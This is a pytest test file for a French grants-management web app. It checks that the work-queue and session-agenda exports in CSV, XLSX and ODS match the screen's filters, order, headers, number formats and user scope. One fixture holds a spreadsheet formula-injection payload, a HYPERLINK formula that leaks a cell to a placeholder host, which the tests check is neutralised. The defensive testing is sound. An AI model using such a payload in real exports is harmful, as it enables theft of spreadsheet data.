"""Exports of the work queue and of a council session's agenda as CSV, XLSX and ODS (issue 19,
part 5): the screen's filters and order, every row — not only the page —, read in keyset
batches; the screen's French headers; amounts as numeric cells with a euro format and dates as
date cells; a cell a spreadsheet would read as a formula neutralised in all three formats."""
from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from fastapi.testclient import TestClient
from odf.opendocument import load as load_ods
from odf.table import TableCell, TableRow
from web_support import GARONNE, PASSWORD, SECRET, World, seed_users, use_fast_passwords

import web.queue
import web.queue_export
from services import commands
from states.lifecycle import STATE_LABELS
from web.app import create_standalone_app

VOTED = STATE_LABELS["approved"]
LINK = '=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez ici")'
HEADERS = ["Référence", "Entreprise", "SIREN", "Appel", "Ligne d'aide", "État", "Prochaine échéance",
           "Nature de l'échéance", "Instruction", "Aide"]


def _client(app, username: str) -> TestClient:
    client = TestClient(app, follow_redirects=False)
    page = client.get("/ui/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    assert client.post("/ui/login", data={"username": username, "password": PASSWORD, "csrf_token": token,
                                          "next": ""}).status_code == 303
    return client


@pytest.fixture
def queue(uow_factory, monkeypatch):
    """Nine dossiers in various states (one with a formula for a name), a queue page of 4 and
    export batches of 2, so that both the screen and the export walk several keyset pages."""
    use_fast_passwords(monkeypatch)
    monkeypatch.setattr(web.queue, "PAGE_SIZE", 4)
    monkeypatch.setattr(web.queue_export, "BATCH", 2)
    w = World(uow_factory)
    seed_users(uow_factory, w.clock)
    for target in ("submitted", "approved", "ready_for_vote", "eligibility_review", "approved", "submitted",
                   "action_plan", "diagnostic"):
        w.dossier(target)
    w.run(commands.submit_candidacy, "entreprise.garonne", programme_id="occitanie-prif",
          company={**GARONNE, "name": LINK})
    app = create_standalone_app(uow_factory=uow_factory, clock=w.clock, secret_key=SECRET)
    return _client(app, "agent.occitanie")


def screen_references(client, query: str = "") -> list[str]:
    """Every reference the queue shows, page after page (following « Page suivante »)."""
    refs, url = [], "/ui/dossiers" + query
    while url:
        page = client.get(url).text
        refs += re.findall(r'<td><a href="/ui/dossiers/\d+">([A-Z]{3}-\d{4}-\d{6})</a>', page)
        following = re.search(r'<a href="(\?[^"]+)" rel="next">', page)
        url = "/ui/dossiers" + following.group(1).replace("&amp;", "&") if following else None
    return refs


def xlsx_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[c for c in row] for row in sheet.iter_rows()]


def ods_rows(content: bytes) -> list[list]:
    doc = load_ods(io.BytesIO(content))
    return [[(cell.getAttribute("valuetype"), cell.getAttribute("value") or cell.getAttribute("datevalue"), str(cell))
             for cell in row.getElementsByType(TableCell)] for row in doc.getElementsByType(TableRow)]


def test_the_xlsx_export_of_the_queue_has_every_row_of_the_screen_in_the_same_order(queue):
    shown = screen_references(queue)
    assert len(shown) == 9  # three pages of 4 on screen
    response = queue.get("/ui/exports/dossiers.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    rows = xlsx_rows(response.content)
    assert [c.value for c in rows[0]] == HEADERS
    assert [r[0].value for r in rows[1:]] == shown
    approved = next(r for r in rows[1:] if r[5].value == VOTED)
    assert approved[9].value == Decimal("17500") or approved[9].value == 17500  # a number, not text
    assert approved[9].data_type == "n" and "€" in approved[9].number_format
    assert isinstance(approved[6].value, datetime) and approved[6].number_format == "DD/MM/YYYY"
    assert approved[1].value == "Atelier Garonne SAS" and approved[2].value == "732829320"
    formula = next(r for r in rows[1:] if "HYPERLINK" in (r[1].value or ""))
    assert formula[1].value == "'" + LINK and formula[1].data_type == "s"


def test_an_export_keeps_the_screens_filters(queue):
    shown = screen_references(queue, "?state=approved")
    assert len(shown) == 2
    rows = xlsx_rows(queue.get("/ui/exports/dossiers.xlsx?state=approved").content)
    assert [r[0].value for r in rows[1:]] == shown
    searched = screen_references(queue, "?q=hyperlink")
    assert [r[0].value for r in xlsx_rows(queue.get("/ui/exports/dossiers.xlsx?q=hyperlink").content)[1:]] == searched
    assert len(searched) == 1


@pytest.mark.parametrize("query", ["?assigned=me", "?assigned=team", "?assigned=none", "?mine=1", "?state=submitted",
                                   "?programme=occitanie-prif", "?q=garonne", "?call=nope", "?line=1",
                                   "?due_before=2099-12-31", "?closed=1", "?assigned=me&state=approved",
                                   "?assigned=nobody", "?due_before=demain"])
def test_every_filter_of_the_queue_exports_exactly_the_dossiers_the_screen_lists(queue, query):
    shown = screen_references(queue, query)
    for fmt in ("xlsx", "csv"):
        response = queue.get(f"/ui/exports/dossiers.{fmt}{query}")
        if fmt == "xlsx":
            exported = [r[0].value for r in xlsx_rows(response.content)[1:]]
        else:
            exported = [r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")][1:]
        assert exported == shown, (fmt, query)


def test_the_assigned_views_export_only_their_share_of_the_queue(queue):
    everything, mine, unassigned = (screen_references(queue, q) for q in ("", "?assigned=me", "?assigned=none"))
    assert 0 < len(mine) < len(everything) and 0 < len(unassigned) < len(everything)
    assert sorted(mine + unassigned) == sorted(everything)
    assert [r[0].value for r in xlsx_rows(queue.get("/ui/exports/dossiers.xlsx?assigned=me").content)[1:]] == mine
    assert [r[0].value for r in xlsx_rows(queue.get("/ui/exports/dossiers.xlsx?mine=1").content)[1:]] == mine


def test_the_csv_export_is_the_same_rows_french_figures_and_a_neutralised_formula(queue):
    shown = screen_references(queue)
    response = queue.get("/ui/exports/dossiers.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADERS
    assert [r[0] for r in rows[1:]] == shown
    approved = next(r for r in rows[1:] if r[5] == VOTED)
    assert approved[9] == "17500,00" and re.fullmatch(r"\d\d/\d\d/\d{4}", approved[6])
    assert any(r[1] == "'" + LINK for r in rows[1:])


def test_the_ods_export_has_currency_and_date_cells_and_a_neutralised_formula(queue):
    shown = screen_references(queue)
    response = queue.get("/ui/exports/dossiers.ods")
    assert response.headers["content-type"] == "application/vnd.oasis.opendocument.spreadsheet"
    rows = ods_rows(response.content)
    assert [c[2] for c in rows[0]] == HEADERS
    assert [r[0][2] for r in rows[1:]] == shown
    approved = next(r for r in rows[1:] if r[5][2] == VOTED)
    assert approved[9][:2] == ("currency", "17500.00") and approved[9][2] == "17\u00a0500,00\u00a0€"
    assert approved[6][0] == "date" and date.fromisoformat(approved[6][1])
    assert any(r[1][2] == "'" + LINK and r[1][0] == "string" for r in rows[1:])


def test_a_session_agenda_exports_with_the_screens_headers_in_the_three_formats(queue):
    page = queue.get("/ui/seances/CP-TEST-1").text
    on_screen = re.findall(r'<td><a href="/ui/dossiers/\d+">([A-Z]{3}-\d{4}-\d{6})</a>', page)
    assert len(on_screen) == 3
    headers = ["Dossier", "Entreprise", "État", "Aide proposée ou votée", "Réductions", "Décision", "N° de délibération"]
    rows = xlsx_rows(queue.get("/ui/seances/CP-TEST-1/ordre-du-jour.xlsx").content)
    assert rows[0][0].value.startswith("Ordre du jour de la séance CP-TEST-1 du ")
    assert [c.value for c in rows[1]] == headers
    assert [r[0].value for r in rows[2:]] == on_screen
    assert {r[5].value for r in rows[2:]} == {"favorable", None}
    assert all(r[3].data_type == "n" for r in rows[2:])
    csv_rows = list(csv.reader(io.StringIO(queue.get("/ui/seances/CP-TEST-1/ordre-du-jour.csv").content
                                           .decode("utf-8-sig")), delimiter=";"))
    assert csv_rows[1] == headers and [r[0] for r in csv_rows[2:]] == on_screen
    ods = ods_rows(queue.get("/ui/seances/CP-TEST-1/ordre-du-jour.ods").content)
    assert [c[2] for c in ods[1]] == headers and [r[0][2] for r in ods[2:]] == on_screen


def test_an_export_shows_only_the_users_scope(queue, uow_factory):
    other = _client(create_standalone_app(uow_factory=uow_factory, clock=World(uow_factory).clock,
                                          secret_key=SECRET), "agent.nouvelle-aquitaine")
    rows = xlsx_rows(other.get("/ui/exports/dossiers.xlsx?closed=1").content)
    assert [c.value for c in rows[0]] == HEADERS and rows[1:] == []
    assert other.get("/ui/seances/CP-TEST-1/ordre-du-jour.xlsx").status_code == 404


def test_the_queue_has_one_way_to_say_mine_and_an_old_mes_dossiers_link_opens_the_a_moi_view(queue):
    page = queue.get("/ui/dossiers").text
    assert "Mes dossiers" not in page and 'name="mine"' not in page
    old = queue.get("/ui/dossiers?mine=1").text
    assert '<option value="me" selected>À moi</option>' in old
    assert screen_references(queue, "?mine=1") == screen_references(queue, "?assigned=me")


def test_the_session_page_shows_the_decision_and_deliberation_number_its_agenda_export_gives(queue):
    exported = {r[0].value: (r[5].value, r[6].value) for r in
                xlsx_rows(queue.get("/ui/seances/CP-TEST-1/ordre-du-jour.xlsx").content)[2:]}
    voted = {ref: vote for ref, vote in exported.items() if vote[0]}
    assert voted and all(outcome == "favorable" and number for outcome, number in voted.values())
    page = queue.get("/ui/seances/CP-TEST-1").text
    assert "<th scope=\"col\">Décision</th>" in page and "<th scope=\"col\">N° de délibération</th>" in page
    for reference, (outcome, number) in voted.items():
        row = re.search(rf'<tr>\s*<td><a href="/ui/dossiers/\d+">{reference}</a>.*?</tr>', page, re.S).group(0)
        cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        assert cells[5:7] == [outcome, number]


def test_a_dossier_proposed_for_vote_shows_its_proposed_aid_in_the_queue_and_its_export_as_on_the_session_page(queue):
    session = queue.get("/ui/seances/CP-TEST-1").text
    proposed = {ref: aid for ref, state, aid in re.findall(
        r'<td><a href="/ui/dossiers/\d+">([A-Z]{3}-\d{4}-\d{6})</a>.*?state-(\w+)">.*?<td class="num">([^<]+)</td>',
        session, re.S) if state == "ready_for_vote"}
    assert proposed and all("€" in aid for aid in proposed.values())
    page = queue.get("/ui/dossiers?state=ready_for_vote").text
    for reference, aid in proposed.items():
        row = re.search(rf'<td><a href="/ui/dossiers/\d+">{reference}</a>.*?</tr>', page, re.S).group(0)
        assert re.findall(r'<td class="num">([^<]+)</td>', row)[-1] == aid
    exported = {r[0].value: r[9] for r in xlsx_rows(queue.get("/ui/exports/dossiers.xlsx?state=ready_for_vote").content)[1:]}
    for reference, aid in proposed.items():
        assert exported[reference].data_type == "n"
        assert Decimal(str(exported[reference].value)) == Decimal(re.sub(r"[^\d,]", "", aid).replace(",", "."))


def test_the_xlsx_exports_open_with_columns_wide_enough_for_their_headers_and_values(queue):
    for url in ("/ui/exports/dossiers.xlsx", "/ui/seances/CP-TEST-1/ordre-du-jour.xlsx"):
        sheet = openpyxl.load_workbook(io.BytesIO(queue.get(url).content)).active
        rows = list(sheet.iter_rows(values_only=True))
        headers = rows[0] if rows[0][1] is not None else rows[1]
        for number, header in enumerate(headers, start=1):
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(number)].width
            assert width and width >= len(header) + 2, (url, header, width)
        company = sheet.column_dimensions["B"].width
        assert company >= max(len(r[1]) for r in rows[2:] if r[1] and "HYPERLINK" not in r[1]), url
